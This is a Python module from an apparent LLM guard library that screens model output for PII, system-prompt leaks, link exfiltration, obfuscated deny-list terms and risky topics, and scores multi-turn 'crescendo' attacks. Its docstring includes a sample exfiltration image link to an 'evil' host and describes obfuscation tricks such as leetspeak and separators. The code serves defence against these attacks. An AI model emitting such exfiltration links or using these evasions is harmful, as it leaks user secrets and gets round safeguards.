"""Output policy for generated text: PII and secrets, system-prompt leakage, link exfiltration, deny lists.

* PII and secrets use the data package's detectors (``bastion.data.detectors``: Luhn-checked cards, SSN,
  IBAN, national IDs, e-mail, phone, API keys and private keys, …) and are redacted (``[CREDIT_CARD]``) or
  block the answer, per role;
* system-prompt leakage: the output contains a canary token planted in the system prompt (ATLAS AML.T0056),
  or a run of ``leak_words`` consecutive words of the system prompt. Both are also matched in a folded view
  (:mod:`bastion.guard.leaks`: case, fullwidth, zero-width and combining characters, Cyrillic/Greek
  look-alikes): a canary also with anything but letters and digits between its characters or reversed, the
  system prompt also with words that are not in it skipped (``… um …`` fillers, numbered lines);
* link exfiltration (``![](https://evil/?q=secret)``; ATLAS AML.T0077): every construct that fetches a URL
  when rendered — inline and reference-style markdown images, HTML tags with a URL attribute (``<img src>``,
  ``<iframe>``, ``style="url()"``), CSS ``url()`` — from a host that is not allowed, and every link, autolink
  or bare URL to such a host that carries data (a query, a fragment, > 200 characters) is removed (redact) or
  blocks the answer; reference definitions (``[1]: https://…``) to such hosts are always removed;
* card numbers are also found in 4-digit groups separated by dots, slashes or a line break, and in
  fullwidth digits (:func:`bastion.guard.leaks.loose_cards`, Luhn-checked);
* deny lists: configured categories of terms (whole words, case-insensitive, also in the folded view with
  up to three separators between the letters of terms of four or more letters, digits or symbols for their
  letters, and plural ``s``/``es``) that block the answer;
* topics: content categories of the signed topic classifier (:mod:`bastion.guard.topics`: weapons, malware,
  drugs, self-harm, hate, sexual) that block the answer when their score reaches the category's threshold;
* per role: each role may have its own PII action and deny categories (like the gateway's output rules).

:class:`SessionScore` accumulates prompt scores across the turns of a conversation with exponential decay,
so an attack spread over many mild turns crosses the session threshold (multi-turn "crescendo" attacks).
"""

from __future__ import annotations

import functools
import re
import threading
import time
from collections import OrderedDict
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

from bastion.errors import ConfigError
from bastion.guard.leaks import canary_in, carries_data, fetch_spans, fold, fold_with_map, loose_cards

ACTIONS = ("allow", "redact", "block")
DEFAULT_ENTITIES = (
    "CREDIT_CARD",
    "US_SSN",
    "IBAN_CODE",
    "SECRET",
    "NATIONAL_ID",
    "PASSPORT",
    "EMAIL_ADDRESS",
    "PHONE_NUMBER",
)


@dataclass(frozen=True)
class RolePolicy:
    pii: str = "redact"
    deny_categories: tuple[str, ...] = ()
    topics: tuple[str, ...] = ()


@dataclass(frozen=True)
class PolicyConfig:
    """The output policy. Unknown actions raise at construction (fail closed)."""

    pii: str = "redact"
    entities: tuple[str, ...] = DEFAULT_ENTITIES
    links: str = "redact"  # what to do with an exfiltrating image/link: redact (remove it) or block
    allowed_link_hosts: tuple[str, ...] = ()
    deny: Mapping[str, tuple[str, ...]] = field(default_factory=dict)
    deny_categories: tuple[str, ...] = ()  # categories enforced for every role
    roles: Mapping[str, RolePolicy] = field(default_factory=dict)
    leak_words: int = 8
    topics: tuple[str, ...] = ()  # topic-classifier categories enforced for every role

    def __post_init__(self) -> None:
        for name, action in [("pii", self.pii), ("links", self.links)] + [
            (f"roles.{r}.pii", p.pii) for r, p in self.roles.items()
        ]:
            if action not in ACTIONS:
                raise ConfigError(f"[guard.output] {name} must be one of {', '.join(ACTIONS)}")
        unknown = {c for p in self.roles.values() for c in p.deny_categories} | set(self.deny_categories)
        unknown -= set(self.deny)
        if unknown:
            raise ConfigError(f"[guard.output] unknown deny categories: {', '.join(sorted(unknown))}")
        if self.leak_words < 4:
            raise ConfigError("[guard.output] leak_words must be at least 4")

    def for_role(self, role: str | None) -> RolePolicy:
        base = self.roles.get(role or "", RolePolicy(pii=self.pii, deny_categories=()))
        return RolePolicy(
            pii=base.pii,
            deny_categories=tuple({*self.deny_categories, *base.deny_categories}),
            topics=tuple(dict.fromkeys((*self.topics, *base.topics))),
        )


@dataclass(frozen=True)
class OutputContext:
    """What the output is checked against: the caller's role, canaries and the system prompt."""

    role: str | None = None
    canaries: tuple[str, ...] = ()
    system_prompt: str | None = None


@dataclass(frozen=True)
class OutputVerdict:
    """``action`` allow / redact / block; ``text`` is what may be shown (empty when blocked)."""

    action: str
    text: str
    findings: tuple[str, ...]
    atlas: tuple[str, ...]
    owasp: tuple[str, ...]

    @property
    def blocked(self) -> bool:
        return self.action == "block"

    def to_dict(self) -> dict[str, Any]:
        return {
            "action": self.action,
            "findings": list(self.findings),
            "atlas": list(self.atlas),
            "owasp": list(self.owasp),
        }


@functools.cache
def _detectors(entities: frozenset[str] | None = None) -> tuple[Any, ...]:
    """The data package's detectors that can change which ``entities`` spans survive: those of the entities
    themselves and of every entity that outranks the lowest-ranked of them in overlap resolution
    (``bastion.data.detectors.engine.PRIORITY``: an IP address or a driver's licence can hide a phone number).
    Entities ranked below all of them (dates, street addresses, person names with the default entities) can
    only lose an overlap to a wanted span, never hide one, so running their detectors changes no wanted span
    and costs ~60 % of the check (``tests/guard/test_policy.py`` checks the equivalence). ``None``: all."""
    from bastion.data.detectors import all_detectors
    from bastion.data.detectors.engine import PRIORITY

    dets = tuple(all_detectors(use_presidio=False))
    if entities is None:
        return dets
    lowest = max(PRIORITY.get(e, 50) for e in entities) if entities else -1
    return tuple(d for d in dets if d.entity in entities or PRIORITY.get(d.entity, 50) <= lowest)


_WORD_SPLIT = re.compile(r"[\W_]+")


def _words(folded: str) -> list[str]:
    return [w for w in _WORD_SPLIT.split(folded) if w]


def _shingles(words: list[str], n: int) -> set[tuple[str, ...]]:
    return {tuple(words[i : i + n]) for i in range(len(words) - n + 1)}


def _overlaps(words: list[str], n: int, shingles: set[tuple[str, ...]], firsts: frozenset[str]) -> bool:
    """Some run of ``n`` consecutive ``words`` is one of ``shingles`` (built only where one can begin)."""
    return any(
        w in firsts and tuple(words[i : i + n]) in shingles for i, w in enumerate(words[: len(words) - n + 1])
    )


_LEET = {"a": "4@", "b": "8", "e": "3", "g": "9", "i": "1!|", "l": "1|", "o": "0", "s": "5$", "t": "7+"}


def _deny_pattern(terms: tuple[str, ...]) -> re.Pattern[str]:
    """A folded term matches whole-word with up to three separators between its letters when it has four or
    more of them (``p-i-p-e b.o.m.b``), with digits and symbols for letters (``p1p3 b0mb``), and in the
    plural."""
    alts = []
    for term in terms:
        t = fold(term).strip()
        chars = [c for c in t if c.isalnum()]
        if len(chars) >= 4:
            alts.append(
                r"[\W_]{0,3}".join(
                    "[" + re.escape(c + _LEET[c]) + "]" if c in _LEET else re.escape(c) for c in chars
                )
            )
        else:
            alts.append(re.escape(t))
    return re.compile(r"(?<![^\W_])(?:" + "|".join(alts) + r")(?:e?s)?(?![^\W_])")


class OutputPolicy:
    def __init__(self, config: PolicyConfig | None = None, *, topic_model: Any = None) -> None:
        self.config = config or PolicyConfig()
        wanted = set(self.config.topics) | {t for r in self.config.roles.values() for t in r.topics}
        self._topics = None
        if wanted:  # load (and verify) the signed topic model only when a policy uses it
            from bastion.guard.topics import default_topic_model

            self._topics = topic_model if topic_model is not None else default_topic_model()
            unknown = wanted - set(self._topics.categories)
            if unknown:
                raise ConfigError(
                    f"[guard.output] unknown topics: {', '.join(sorted(unknown))} "
                    f"(the classifier knows {', '.join(self._topics.categories)})"
                )
        self._deny = {
            cat: re.compile(r"\b(?:" + "|".join(re.escape(t) for t in terms) + r")\b", re.IGNORECASE)
            for cat, terms in self.config.deny.items()
            if terms
        }
        self._deny_folded = {cat: _deny_pattern(terms) for cat, terms in self.config.deny.items() if terms}
        self._prompt_cache: dict[str, tuple[set[tuple[str, ...]], frozenset[str], frozenset[str]]] = {}
        self._entities = frozenset(self.config.entities)

    def _exfil_links(self, text: str) -> list[tuple[int, int]]:
        allowed_hosts = [h.lower().strip(".") for h in self.config.allowed_link_hosts]
        bad = []
        for f in fetch_spans(text):
            allowed = any(f.host == h or f.host.endswith("." + h) for h in allowed_hosts)
            if not allowed and (f.zero_click or carries_data(f.url)):
                bad.append((f.start, f.end))
        return bad

    def _prompt_shingles(
        self, system_prompt: str
    ) -> tuple[set[tuple[str, ...]], frozenset[str], frozenset[str]]:
        """The system prompt's shingles, their first words and its vocabulary (cached)."""
        cached = self._prompt_cache.get(system_prompt)
        if cached is None:
            words = _words(fold(system_prompt))
            if len(self._prompt_cache) > 64:
                self._prompt_cache.clear()
            sh = _shingles(words, self.config.leak_words)
            cached = self._prompt_cache[system_prompt] = (sh, frozenset(t[0] for t in sh), frozenset(words))
        return cached

    def check(
        self, text: str, *, context: OutputContext | None = None, prefer_redact: bool = False
    ) -> OutputVerdict:
        """The verdict on ``text``. ``prefer_redact`` (the proxy's ``redact`` mode): PII and links that the
        policy would block are redacted instead; canaries, system-prompt runs, deny lists and topics, which
        cannot be redacted, still block."""
        from bastion.data.detectors import detect_text

        ctx = context or OutputContext()
        rule = self.config.for_role(ctx.role)
        findings: list[str] = []
        atlas: list[str] = []
        owasp: list[str] = []
        block = False
        folded = fold(text)
        skel = re.sub(r"[\W_]+", "", folded) if ctx.canaries else ""
        for canary in ctx.canaries:
            if canary_in(text, canary, folded=folded, skel=skel):
                findings.append("canary")
                block = True
                break
        if ctx.system_prompt:
            sp, firsts, vocab = self._prompt_shingles(ctx.system_prompt)
            n = self.config.leak_words
            words = _words(folded)
            if _overlaps(words, n, sp, firsts) or _overlaps([w for w in words if w in vocab], n, sp, firsts):
                findings.append("system-prompt-overlap")
                block = True
        if findings:
            atlas.append("AML.T0056")
            owasp.append("LLM07:2025")
        for cat in rule.deny_categories:
            pattern = self._deny.get(cat)
            loose = self._deny_folded.get(cat)
            if (pattern is not None and pattern.search(text)) or (loose is not None and loose.search(folded)):
                findings.append(f"deny:{cat}")
                block = True
        if rule.topics and self._topics is not None:
            from bastion.guard.normalize import normalize

            for cat in self._topics.classify(normalize(text).text, categories=rule.topics):
                findings.append(f"topic:{cat}")
                block = True
        out = text
        links = self._exfil_links(text)
        if links:
            findings.append("link-exfiltration")
            atlas.append("AML.T0077")
            owasp.append("LLM05:2025")
            if self.config.links == "block" and not prefer_redact:
                block = True
            else:
                for a, b in reversed(links):
                    out = out[:a] + "[link removed]" + out[b:]
        if rule.pii != "allow":
            wanted = self._entities
            found = [
                (s.start, s.end, s.entity)
                for s in detect_text(out, detectors=_detectors(wanted))
                if s.entity in wanted
            ]
            if not out.isascii():  # also in the folded text: fullwidth digits, invisible characters inside
                view, origin = fold_with_map(out)
                if view != out:
                    found += [
                        (origin[s.start], origin[s.end - 1] + 1, s.entity)
                        for s in detect_text(view, detectors=_detectors(wanted))
                        if s.entity in wanted
                        and s.end > s.start
                        and all(origin[s.end - 1] + 1 <= a or origin[s.start] >= b for a, b, _ in found)
                    ]
            if "CREDIT_CARD" in wanted:  # a card across a line break is a card, not two phone numbers
                cards = [(a, b, "CREDIT_CARD") for a, b in loose_cards(out)]
                found = [f for f in found if all(f[1] <= a or f[0] >= b for a, b, _ in cards)] + cards
            if found:
                findings += sorted({f"pii:{e}" for _, _, e in found})
                atlas.append("AML.T0057")
                owasp.append("LLM02:2025")
                if rule.pii == "block" and not prefer_redact:
                    block = True
                else:
                    for a, b, e in sorted(found, reverse=True):
                        out = out[:a] + f"[{e}]" + out[b:]
        action = "block" if block else "redact" if out != text else "allow"
        return OutputVerdict(
            action=action,
            text="" if block else out,
            findings=tuple(dict.fromkeys(findings)),
            atlas=tuple(dict.fromkeys(atlas)),
            owasp=tuple(dict.fromkeys(owasp)),
        )


def scan_output(
    text: str, *, context: OutputContext | None = None, policy: OutputPolicy | None = None
) -> OutputVerdict:
    """Check generated text against the output policy (the default one when none is given)."""
    return (policy or OutputPolicy()).check(text, context=context)


class SessionScore:
    """Per-session accumulated prompt score: ``s ← decay·s + score``; flagged when ``s ≥ threshold``.

    In memory, bounded (least recently used sessions are dropped); thread-safe.
    """

    def __init__(
        self,
        *,
        decay: float = 0.7,
        threshold: float = 1.2,
        max_sessions: int = 100_000,
        now: Any = time.monotonic,
    ) -> None:
        if not 0.0 <= decay < 1.0 or threshold <= 0:
            raise ConfigError("session decay must lie in [0, 1) and the threshold be positive")
        self.decay, self.threshold, self._max = decay, threshold, max_sessions
        self._scores: OrderedDict[str, float] = OrderedDict()
        self._lock = threading.Lock()
        self._now = now

    def add(self, session: str, score: float) -> tuple[float, bool]:
        with self._lock:
            s = self.decay * self._scores.get(session, 0.0) + float(score)
            self._scores[session] = s
            self._scores.move_to_end(session)
            while len(self._scores) > self._max:
                self._scores.popitem(last=False)
        return s, s >= self.threshold


__all__ = [
    "ACTIONS",
    "DEFAULT_ENTITIES",
    "OutputContext",
    "OutputPolicy",
    "OutputVerdict",
    "PolicyConfig",
    "RolePolicy",
    "SessionScore",
    "scan_output",
]
